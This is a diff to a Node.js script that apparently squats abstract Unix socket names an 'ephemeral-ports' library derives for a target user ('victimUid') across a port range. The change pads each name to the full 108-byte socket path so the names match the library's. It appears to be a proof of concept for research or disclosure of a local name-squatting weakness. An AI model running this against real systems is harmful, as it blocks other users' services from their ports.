@@ -40,9 +40,10 @@ const siphash = require('./siphash.js');
 const [low, high, victimUid] = process.argv.slice(2).map(Number);
 const names = [];
 for (let p = low; p <= high; p++) {
-  names.push('\\0ephemeral-ports/v1/port/' + p);
+  // Padded to the whole sun_path, as the library spells every abstract name (abstract-name.ts).
+  names.push(('\\0ephemeral-ports/v1/port/' + p).padEnd(108, '\\0'));
   for (const key of [new Uint32Array(4), siphash.string16_to_key('ephemeral-ports!')]) {
-    names.push('\\0ephemeral-ports/v3/uid/' + victimUid + '/' + siphash.hash_hex(key, 'port/' + p));
+    names.push(('\\0ephemeral-ports/v3/uid/' + victimUid + '/' + siphash.hash_hex(key, 'port/' + p)).padEnd(108, '\\0'));
   }
 }
 const bound = (server, options) => new Promise((resolve) => { server.once('error', () => resolve(false)); server.listen(options, () => resolve(true)); });
